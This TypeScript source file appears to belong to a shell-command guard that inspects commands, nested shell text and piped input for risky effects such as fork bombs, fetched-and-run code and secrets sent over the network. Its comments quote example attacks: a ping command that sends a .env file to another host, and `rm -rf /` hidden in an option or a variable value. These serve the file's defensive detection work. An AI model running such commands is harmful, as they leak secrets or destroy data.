import type { Risk } from "@memomesh/core";
import { type Call, finding, type Into, touches } from "./call.ts";
import type { Effect, Finding, Place } from "./classification.ts";
import { judge } from "./judge.ts";
import { type OwnPrograms, withOwnRules } from "./own-programs.ts";
import { findProgram } from "./programs/table.ts";
import { originOf } from "./rules/origin.ts";
import { secretVariables } from "./rules/secret-variable.ts";
import { type Touch, type Touched, touch } from "./rules/touch.ts";
import { variableFindings } from "./rules/variable.ts";
import { type Argument, after, isOpen, joinedArguments, leadOf, shown, textOf } from "./shell/argument.ts";
import type { SimpleCommand } from "./shell/command.ts";
import { foldersOf } from "./shell/folders.ts";
import { printedText, textOfWord } from "./shell/printed.ts";
import { guessShell, type ReadShell, readShell } from "./shell/read-shell.ts";
import { expand, expandValue, product } from "./shell/resolve.ts";
import { isFunction } from "./shell/scope.ts";
import { spotOf } from "./spot.ts";

/** Calls that are looked at for one text. Text can be written so that it means more than anybody wants to wait for. */
const mostCalls = 4000;
/** The same for the arguments of all of them. */
const mostArguments = 100_000;
/** Programs that start programs that start programs. */
const deepestCall = 32;
/** Shell text within shell text, such as `sh -c "eval '…'"`. */
const deepestText = 6;
/** Arguments of an unknown program that are tried as the beginning of another one. */
const mostGuesses = 12;

/** Looks at every command of a text and at everything that these start in turn. One for each text. */
export class Inspection implements Into {
  readonly read: ReadShell = readShell;
  readonly #own: OwnPrograms;
  #calls = 0;
  #arguments = 0;
  #deep = 0;
  #depth = 0;

  /** @param own what mesh.yml says about programs */
  constructor(own: OwnPrograms = {}) {
    this.#own = own;
  }

  command(command: SimpleCommand, from?: Call): readonly Finding[] {
    const { start, end } = command;
    const own = foldersOf(command);
    const folders = from === undefined ? own : [...own, ...from.folders.filter(([first]) => first?.kind === "unknown")];
    const call: Call = {
      ...{ name: "the shell", args: [], command, input: command.input, folders, into: this, start, end },
      privileged: from?.privileged ?? false,
      unsettled: from?.unsettled ?? false,
    };
    return [
      ...secretVariables(command, "medium"),
      ...this.#forkBomb(call),
      ...this.#assignments(call),
      ...this.#redirections(call),
      ...this.#words(call),
    ];
  }

  #forkBomb(call: Call): readonly Finding[] {
    const { forkBomb } = call.command;
    if (forkBomb === undefined) return [];
    return [finding({ ...call, name: `the function ${forkBomb}` }, "high", ["service"], "starts itself without end")];
  }

  #assignments(call: Call): readonly Finding[] {
    return call.command.assignments.flatMap(({ name, value }) => {
      const values = value === undefined ? [undefined] : expandValue(value, call.command);
      return values.flatMap((each) => variableFindings(name, each, call, each ?? call));
    });
  }

  #redirections(call: Call): readonly Finding[] {
    return call.command.redirects.flatMap(({ writes, target }) =>
      expandValue(target, call.command)
        // `>(…)` and `<(…)`: their commands are looked at by themselves.
        .filter(
          ({ parts }) =>
            !parts.some((part) => part.kind === "unknown" && part.from !== undefined && parts.length === 1),
        )
        .flatMap((path) => touches(call, writes ? "write" : "read", path)),
    );
  }

  #words(call: Call): readonly Finding[] {
    const { words } = call.command;
    const tooMany = (): readonly Argument[] => [{ ...call, parts: [{ kind: "unknown", open: true }] }];
    const lists = product(
      words.map((word) => expand(word, call.command)),
      tooMany,
    );
    return lists.flatMap((list) => this.program(list, call));
  }

  program(words: readonly Argument[], from: Call): readonly Finding[] {
    const [first, ...args] = words;
    if (first === undefined) return [];
    const call: Call = { ...from, name: shown(first), args, ...around(words, from) };
    this.#calls += 1;
    this.#arguments += args.length;
    if (this.#calls > mostCalls || this.#arguments > mostArguments || this.#deep >= deepestCall)
      return [finding(call, "critical", ["unknown"], "is more than can be looked at")];
    this.#deep += 1;
    const found = this.#named(first, call, from);
    this.#deep -= 1;
    if (!call.privileged) return found;
    return found.map((each) => (each.effects.includes("unknown") ? { ...each, risk: "critical" } : each));
  }

  #named(first: Argument, call: Call, from: Call): readonly Finding[] {
    const name = textOf(first);
    if (name === undefined) return this.#unknownName(first, call, from);
    return withOwnRules(this.#own, name, call, this.#known(name, call));
  }

  #known(name: string, call: Call): readonly Finding[] {
    const { program, sure } = findProgram(name);
    const defined = isFunction(name, call.command.scope, call.command.at);
    if (program === undefined) return defined ? [] : this.#unknownProgram(call);
    const [only, ...others] = call.args;
    const asked = `--version --help ${program.asked ?? ""}`.split(" ").includes((only && textOf(only)) ?? " ");
    if (sure && asked && others.length === 0 && call.input.kind === "terminal")
      return [finding(call, "low", ["read"], "tells about itself")];
    const judged = judge(program, call);
    const found = sure ? judged : [...this.#unknownProgram(call), ...judged];
    return [...found, ...this.#sent(call, judged)];
  }

  /** `ping -p "$(xxd -p .env)" x`: what a program that talks to other machines is given of files with secrets. */
  #sent(call: Call, found: readonly Finding[]): readonly Finding[] {
    if (!found.some(({ risk, effects }) => risk !== "low" && effects.includes("network"))) return [];
    const given = call.args.flatMap(({ parts }) =>
      parts.flatMap((part) => (part.kind === "unknown" ? (part.from ?? []) : [])),
    );
    const piped = call.input.kind === "pipe" ? call.input.from : [];
    const read = [
      ...[...given, ...piped].flatMap((command) => this.command(command, call)),
      ...this.#redirections(call),
    ];
    return read.some(({ effects }) => effects.includes("read") && effects.includes("secret"))
      ? [finding(call, "high", ["network", "secret"], "may send to another machine what holds secrets")]
      : [];
  }

  #unknownProgram(call: Call): readonly Finding[] {
    const unknown = finding(call, "high", ["unknown"], "is not a program that the guard knows");
    const hidden = this.hidden(call.args, call).filter(({ risk }) => risk === "critical");
    return [unknown, ...hidden];
  }

  #unknownName(first: Argument, call: Call, from: Call): readonly Finding[] {
    const sources = first.parts.flatMap((part) => (part.kind === "unknown" ? (part.from ?? []) : []));
    const fetched = originOf(sources) !== "other";
    const unknown = fetched
      ? finding(call, "critical", ["network", "unknown"], "is a command that comes from elsewhere and nobody has read")
      : finding(call, "high", ["unknown"], "is a command of which the name cannot be known before it runs");
    // An expansion without quotes may vanish, and then the next word is the name.
    const next = isOpen(first) ? this.program(call.args, from) : this.hidden(call.args, call);
    return [unknown, ...next];
  }

  hidden(words: readonly Argument[], call: Call): readonly Finding[] {
    return words.slice(0, mostGuesses).flatMap((written, index) => {
      // `--prepare='rm -rf /'`: what is started may stand behind an option's name, or behind an editor's `:!`.
      const [option = ""] = /^--?[A-Za-z][\w-]*=|^\+?:?!/.exec(leadOf(written)) ?? [];
      const word = after(written, option.length);
      const text = textOf(word);
      if (text === undefined) return [];
      if (/\s/.test(text)) return [...this.text(word, call, true), ...this.#valueOf(word, text, call)];
      return findProgram(text).sure ? this.program([word, ...words.slice(index + 1)], call) : [];
    });
  }

  /** `ls='rm -rf /'`: a name for what is run later. Other values of names are no commands; only what is certainly bad counts. */
  #valueOf(word: Argument, text: string, call: Call): readonly Finding[] {
    const [name] = /^[A-Za-z_][\w.-]*=/.exec(text) ?? [];
    if (name === undefined) return [];
    return this.text(after(word, name.length), call, true).filter(({ risk }) => risk === "critical");
  }

  text(argument: Argument, call: Call, guessed = false): readonly Finding[] {
    const sources = argument.parts.flatMap((part) => (part.kind === "unknown" ? [part.from ?? []] : []));
    const known = sources.length === 0;
    const fetched = sources.some((commands) => originOf(commands) !== "other");
    const unknown = finding(
      call,
      fetched ? "critical" : "high",
      ["unknown", ...(fetched ? (["network"] as const) : [])],
      fetched
        ? "runs text that comes from elsewhere and nobody has read"
        : "runs text that cannot be known before it runs",
      argument,
    );
    return [...(known ? [] : [unknown]), ...this.#read(argument, call, guessed || !known)];
  }

  #read(argument: Argument, call: Call, guessed: boolean): readonly Finding[] {
    if (this.#depth >= deepestText)
      return [finding(call, "critical", ["unknown"], "holds text within text, too deep to follow", argument)];
    const { scope, at, late } = call.command;
    const place: Place = { start: argument.start, end: argument.end };
    const surroundings = { scope, at, late, input: call.input, unsettled: call.unsettled, place };
    const read = guessed ? guessShell : this.read;
    const reading = read(sourceOf(argument), surroundings);
    if (!reading.readable)
      return guessed ? [] : [finding(call, "critical", ["unknown"], `runs text that ${reading.problem}`, argument)];
    this.#depth += 1;
    const found = reading.commands.flatMap((command) => this.command(command, call));
    this.#depth -= 1;
    return found;
  }

  input(call: Call): readonly Finding[] {
    const { input, command } = call;
    const runs = (risk: Risk, effects: readonly Effect[], does: string) => [finding(call, risk, effects, does)];
    if (input.kind === "text") return expandValue(input.word, command).flatMap((text) => this.text(text, call));
    if (input.kind !== "pipe") return runs("high", ["unknown"], "runs its standard input, which was not read here");
    const printed = printedText(input.from, (word) => expand(word, input.from[0] ?? command));
    if (printed !== undefined) return this.text({ ...place(call), parts: printed }, call);
    const origin = originOf(input.from);
    if (origin === "network")
      return runs("critical", ["network", "unknown"], "runs what comes over the network and nobody has read");
    if (origin === "encoded")
      return runs("critical", ["unknown"], "runs what another program makes out of text that nobody can read");
    return runs("high", ["unknown"], "runs what another program prints");
  }

  inputText({ input, command }: Call): string | undefined {
    if (input.kind === "text")
      return textOfWord({ ...input.word }, (word) => expandValue(word, command).map((each) => [each]));
    if (input.kind !== "pipe") return undefined;
    const printed = printedText(input.from, (word) => expand(word, input.from[0] ?? command));
    return printed && textOf({ parts: printed });
  }

  origin(commands: readonly SimpleCommand[]): "network" | "encoded" | "other" {
    return originOf(commands);
  }

  touch(what: Touch, path: Argument["parts"], shown: string): Touched | undefined {
    return touch(what, spotOf(path), shown);
  }
}

function place({ start, end }: Place): Place {
  return { start, end };
}

/** From the first word to the last one; words of several texts have no common place. */
function around(words: readonly Argument[], from: Place): Place {
  const { start, end } = joinedArguments(words);
  return start <= end ? { start, end } : place(from);
}

/** Shell text again, with a variable that nobody sets for what is not known. */
function sourceOf({ parts }: Argument): string {
  return parts
    .map((part) => (part.kind === "root" ? `$${part.name}` : part.kind === "unknown" ? "$MEMOMESH_UNKNOWN" : part.text))
    .join("");
}
